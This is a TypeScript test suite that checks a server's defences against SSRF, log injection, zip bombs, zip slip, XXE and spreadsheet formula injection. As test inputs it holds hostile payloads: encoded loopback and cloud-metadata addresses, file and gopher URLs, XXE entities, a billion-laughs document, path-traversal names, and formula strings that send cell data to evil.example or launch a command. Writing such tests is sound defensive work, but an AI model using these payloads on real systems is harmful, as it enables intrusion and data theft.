import { randomUUID } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { strToU8, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HttpSource } from '@ioc/adapter-kit';
import type { DirectiveAnswer, FeedDetail, Problem } from '@ioc/contracts';
import { Transports } from '@ioc/transports';
import { startCopiedCentre, type CopiedCentre } from '../support/config-copy.js';
import { eventually } from '../support/eventually.js';
import { startCanary, type CanaryServer } from './canary-server.js';
import { bookWith, lyingZip, sheetsOf } from './hostile-files.js';

/** An answer that would be two log lines, colour a terminal red and close the string that it stands in. */
const hostile = 'refused"}\n{"level":60,"msg":"planted"}\r\n\u001b[31mred\u009b31m\u2028\u202e';

let inside: CanaryServer;
let department: CanaryServer;
let centre: CopiedCentre;
beforeAll(async () => {
  inside = await startCanary();
  department = await startCanary((request, response) => {
    if (request.url?.startsWith('/zalo')) response.writeHead(409, { 'content-type': 'application/json' }).end(JSON.stringify({ message: hostile }));
    else response.writeHead(302, { location: `${inside.origin}/redirected` }).end();
  });
  centre = await startCopiedCentre({ FEEDBACK_URL: department.origin, IOC_LOG: 'info', NODE_OPTIONS: `--import=${pathToFileURL(join(import.meta.dirname, 'changing-names.mjs')).href}` });
});
afterAll(async () => {
  await centre?.stop();
  await department.stop();
  await inside.stop();
});

const inspect = (url: string) => fetch(`${centre.url}/api/v1/onboarding/inspect`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ url }) });
const sent = async (name: string, bytes: Uint8Array | string) => {
  const form = new FormData();
  form.append('file', new Blob([bytes as Uint8Array<ArrayBuffer>]), name);
  const began = Date.now();
  const answer = await fetch(`${centre.url}/api/v1/onboarding/inspect`, { method: 'POST', body: form });
  return { status: answer.status, text: await answer.text(), ms: Date.now() - began };
};

describe('SSRF', () => {
  const cards = Object.values(networkInterfaces()).flatMap((card) => card ?? []).filter(({ family }) => family === 'IPv4').map(({ address }) => address);

  it.each([
    ...['127.0.0.1', '127.1', '2130706433', '0177.0.0.1', '0x7f.0.0.1', '0x7f000001', '0.0.0.0', '0', 'localhost', 'LOCALHOST', '①②⑦.⓪.⓪.①', '127。0。0。1'],
    ...['[::1]', '[::]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::127.0.0.1]', '[64:ff9b::7f00:1]', '[64:ff9b:1::7f00:1]', '[2002:7f00:1::]', '[0:0:0:0:0:ffff:7f00:0001]'],
    ...cards,
  ])('a typed address does not lead to this machine as %s', async (host) => {
    const answer = await inspect(`http://${host}:${inside.port}/as-number`);
    expect([answer.status, ((await answer.json()) as Problem).title]).toEqual([422, expect.stringContaining('never called')]);
    expect(inside.asked).toEqual([]);
  });

  it.each(['169.254.169.254', '[::ffff:169.254.169.254]', '[fe80::1]', '[fd00:ec2::254]', '[64:ff9b::a9fe:a9fe]', '[ff02::1]', '224.0.0.1', '255.255.255.255', '2852039166'])('nor to the link or to everybody as %s', async (host) => {
    expect(((await (await inspect(`http://${host}/latest/meta-data`)).json()) as Problem).title).toContain('never called');
  });

  it.each(['file:///etc/passwd', 'ftp://127.0.0.1/', 'gopher://127.0.0.1:6379/_x', 'data:text/csv,a', 'dict://127.0.0.1:11211/', '//127.0.0.1/', 'http://'])('nor by %s', async (url) => {
    expect((await inspect(url)).status).toBe(400);
  });

  it('nor with a login within', async () => {
    expect((await inspect(`http://user:password@127.0.0.1:${inside.port}/`)).status).toBe(422);
  });

  it.each(['inside.test', 'both.test', 'mapped.test', 'metadata.test', 'hidden-metadata.test'])('nor behind the name %s', async (host) => {
    expect(((await (await inspect(`http://${host}:${inside.port}/by-name`)).json()) as Problem).title).toContain('never called');
    expect(inside.asked).toEqual([]);
  });

  it('nor behind a name that answers otherwise the second time', async () => {
    expect((await inspect(`http://rebinding.test:${inside.port}/rebound`)).status).toBe(422);
    // Now it leads inside: whoever asks again is told so.
    expect(((await (await inspect(`http://rebinding.test:${inside.port}/rebound`)).json()) as Problem).title).toContain('never called');
    expect(inside.asked).toEqual([]);
  }, 30_000);

  it('nor by a redirect, neither of a typed address nor of a feed', async () => {
    const { title } = (await (await inspect(`${department.origin}/typed`)).json()) as Problem;
    expect(title).toContain('redirects elsewhere');
    await fetch(`${centre.url}/api/v1/feeds/open311-dvc/poll`, { method: 'POST' });
    expect(department.asked).toEqual(expect.arrayContaining(['/typed', expect.stringMatching(/^\/open311/)]));
    expect(inside.asked).toEqual([]);
  });

  it('a feed never reaches the link either, neither by number nor by name', async () => {
    await import('./changing-names.mjs' as string);
    const transports = new Transports(() => '');
    const session = transports.session('feed', AbortSignal.timeout(5_000), 1_000);
    for (const host of ['169.254.169.254', '[::ffff:169.254.169.254]', '[fe80::1]', '[64:ff9b::a9fe:a9fe]', 'metadata.test', 'hidden-metadata.test']) {
      await expect(session.http(HttpSource.parse({ url: `http://${host}/latest` })), host).rejects.toMatchObject({ kind: 'denied' });
    }
    await transports.close();
  });
});

describe('log injection', () => {
  it('what a source says of its refusal stays in one line, without a sign that a terminal obeys', async () => {
    await fetch(`${centre.url}/api/v1/feeds/open311-zalo/poll`, { method: 'POST' });
    await fetch(`${centre.url}/api/v1/feeds/x%0a%1b%5b31m/poll?a=%0d%0aSet-Cookie:x`, { method: 'POST' });
    const told = () => centre.server().output().split('\n').filter((line) => line.includes('planted'));
    await eventually(() => told().length > 0, 20_000);
    for (const line of told()) expect(JSON.parse(line)).not.toMatchObject({ msg: 'planted' });
     
    expect(centre.server().output()).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202e]/u);
    for (const line of centre.server().output().trim().split('\n')) expect(() => void JSON.parse(line), line).not.toThrow();
  }, 30_000);

  it('nor does a screen or a program get it as two lines', async () => {
    const { fault } = await centre.get<FeedDetail>('feeds/open311-zalo');
     
    expect(fault).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/u);
  });
});

describe('a zip bomb', () => {
  it.each([
    ['that says how large it is', () => zipSync({ '[Content_Types].xml': strToU8('<x/>'), 'xl/worksheets/sheet1.xml': [new Uint8Array(120_000_000), { level: 9 }] })],
    ['that says it is small', () => lyingZip(60_000_000)],
    ['of a thousand parts', () => zipSync(Object.fromEntries(Array.from({ length: 1_200 }, (_, nth) => [`xl/${nth}.xml`, strToU8('<x/>')])))],
    ['within another', () => zipSync({ 'xl/workbook.xml': zipSync({ a: new Uint8Array(50_000_000) }) })],
  ])('%s is refused before it is unpacked', async (_which, made) => {
    const { status, ms, text } = await sent('bomb.xlsx', made());
    expect([status, text.length]).toEqual([expect.toBeOneOf([200, 422]), expect.toSatisfy((length: number) => length < 20_000)]);
    expect(ms).toBeLessThan(5_000);
    const memory = Number(/^process_resident_memory_bytes (\S+)/m.exec(await (await fetch(`${centre.url}/metrics`)).text())?.[1]);
    expect(memory).toBeLessThan(900_000_000);
  }, 30_000);
});

describe('zip slip', () => {
  it('a workbook whose parts are named like paths writes nothing anywhere', async () => {
    const names = ['../../slipped.txt', '/tmp/slipped.txt', '..\\..\\slipped.txt', `${'../'.repeat(20)}${centre.folder.slice(1)}/slipped.txt`, join(centre.folder, 'slipped.txt')];
    const book = bookWith([['Mã huyện', 'Số'], ['608', '1']], Object.fromEntries(names.map((name) => [name, strToU8('slipped')])));
    expect((await sent('slip.xlsx', book)).status).toBeOneOf([200, 422]);
    for (const place of [centre.folder, join(centre.folder, 'data'), join(centre.folder, '..'), '/tmp', process.cwd(), join(process.cwd(), '..'), '/']) expect(existsSync(join(place, 'slipped.txt')), place).toBe(false);
  });
});

describe('XXE', () => {
  const dtd = (entities: string) => `<?xml version="1.0"?><!DOCTYPE requests [${entities}]><requests><request><service_request_id>1</service_request_id><description>&e;</description></request></requests>`;

  it('an entity reads no file and calls nobody, in a document and within a workbook', async () => {
    writeFileSync(join(centre.folder, 'canary.txt'), 'canary-of-the-disk');
    const file = pathToFileURL(join(centre.folder, 'canary.txt')).href;
    const documents = [`<!ENTITY e SYSTEM "${file}">`, `<!ENTITY e SYSTEM "${inside.origin}/xxe">`, `<!ENTITY % p SYSTEM "${inside.origin}/parameter"> %p;`, `<!ENTITY e PUBLIC "x" "${file}">`].map(dtd);
    for (const document of documents) {
      expect((await sent('x.xml', document)).text).not.toContain('canary-of');
      const book = bookWith([['a']], { 'xl/sharedStrings.xml': strToU8(document) });
      const { text } = await sent('x.xlsx', book);
      expect(text).not.toContain('canary-of');
    }
    expect(inside.asked).toEqual([]);
  });

  it('entities that multiply are refused at once', async () => {
    const laughs = Array.from({ length: 12 }, (_, nth) => `<!ENTITY ${nth === 11 ? 'e' : `e${nth}`} "${nth === 0 ? 'ha' : `&e${nth - 1};`.repeat(10)}">`).join('');
    const { ms, text } = await sent('laughs.xml', dtd(laughs));
    expect(ms).toBeLessThan(2_000);
    expect(text).not.toContain('hahahaha');
  });
});

describe('formula injection', () => {
  const formulas = ['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1', ' =1+1', '=cmd|\'/c calc\'!A1'];

  it('no cell of a workbook that is handed out begins as a formula, whoever wrote its text', async () => {
    for (const title of formulas) {
      const body = { key: randomUUID(), by: '=1+1 Trưởng ca', organisations: ['ban-phong-chong-thien-tai'], title: `${title} `.padEnd(6, 'x'), content: title.padEnd(6, 'x'), priority: 'p2', deadline: Date.now() + 3_600_000 };
      const answer = await fetch(`${centre.url}/api/v1/directives`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
      expect([title, answer.status]).toEqual([title, 200]);
      expect((await answer.json()) as DirectiveAnswer[]).toHaveLength(1);
    }
    const { cells, formulas: run } = sheetsOf(new Uint8Array(await (await fetch(`${centre.url}/api/v1/directives.xlsx`)).arrayBuffer()));
    expect(cells.filter((text) => text.includes('HYPERLINK'))).not.toEqual([]);
    expect(cells.filter((text) => /^\s*[=+\-@]|^[\t\r]/.test(text) && !/^[+-]?\d+([.,]\d+)?$/.test(text))).toEqual([]);
    expect(run).toEqual([]);
  });
});

it('the server is the same one after all of it, and told nobody what is inside', () => {
  expect(centre.server().process.exitCode).toBeNull();
  expect(inside.asked).toEqual([]);
  expect(readFileSync(join(centre.pack, 'province.yaml'), 'utf8')).toBe(readFileSync('config/kon-tum/province.yaml', 'utf8'));
});
